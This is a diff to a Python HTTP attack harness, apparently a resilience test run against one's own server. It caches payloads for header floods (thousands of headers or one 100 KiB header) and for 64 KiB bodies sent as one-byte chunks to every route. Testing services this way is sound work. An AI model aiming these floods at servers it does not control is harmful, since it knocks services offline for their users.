@@ -51,10 +51,15 @@ def _head(method: str, path: str, port: int, extra: Iterable[str] = ()) -> bytes
     return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")
 
 
-def _one_byte_chunks(body: bytes) -> Iterator[bytes]:
-    for i in range(0, len(body), 2048):  # 2,048 one-byte chunks per send
-        yield b"".join(b"1\r\n%s\r\n" % body[j : j + 1] for j in range(i, min(i + 2048, len(body))))
-    yield b"0\r\n\r\n"
+def _one_byte_chunks(body: bytes) -> list[bytes]:
+    """``body`` framed as 1-byte chunks, 2,048 to a send (built once: the attacker's CPU is
+    the victim's too, on a small machine)."""
+    pieces = []
+    for i in range(0, len(body), 2048):
+        pieces.append(
+            b"".join(b"1\r\n%s\r\n" % body[j : j + 1] for j in range(i, min(i + 2048, len(body))))
+        )
+    return [*pieces, b"0\r\n\r\n"]
 
 
 def _big_chunks(size: int) -> Iterator[bytes]:
@@ -114,28 +119,32 @@ class _AppAttack(_Attack):
 
     def heads(self, offset: int) -> None:
         """Header floods on every route in turn: one 100 KiB header, then 3,000 small ones."""
+        floods = (
+            [f"X-{n}: v" for n in range(3000)],
+            [f"X-Flood: {'a' * 100 * 1024}"],
+        )
+        built: dict[tuple[int, int], bytes] = {}  # (heads built once: see _one_byte_chunks)
         i = offset
         while self.window() is not None:
             method, path = route = self.routes[i % len(self.routes)]
-            if (i // len(self.routes)) % 2:  # (each route gets both, in turn)
-                extra = [f"X-Flood: {'a' * 100 * 1024}"]
-            else:
-                extra = [f"X-{n}: v" for n in range(3000)]
+            flood = (i // len(self.routes)) % 2  # (each route gets both, in turn)
             body = b"{}" if method == "POST" else b""
-            length = [f"Content-Length: {len(body)}", "Content-Type: application/json"]
-            self._send("heads", route, _head(method, path, self.port, extra + length), [body])
+            head = built.get((i % len(self.routes), flood))
+            if head is None:
+                length = [f"Content-Length: {len(body)}", "Content-Type: application/json"]
+                head = _head(method, path, self.port, floods[flood] + length)
+                built[(i % len(self.routes), flood)] = head
+            self._send("heads", route, head, [body])
             i += 1
 
     def chunks(self, offset: int) -> None:
         """Bodies of 64 KiB sent in 1-byte chunks, on every route in turn."""
         i = offset
-        body = b'{"a":"' + b"x" * (64 * 1024) + b'"}'
+        wire = _one_byte_chunks(b'{"a":"' + b"x" * (64 * 1024) + b'"}')
         while self.window() is not None:
             method, path = route = self.routes[i % len(self.routes)]
             extra = ["Transfer-Encoding: chunked", "Content-Type: application/json"]
-            self._send(
-                "chunks", route, _head(method, path, self.port, extra), _one_byte_chunks(body)
-            )
+            self._send("chunks", route, _head(method, path, self.port, extra), wire)
             i += 1
 
     def bodies(self, offset: int) -> None:
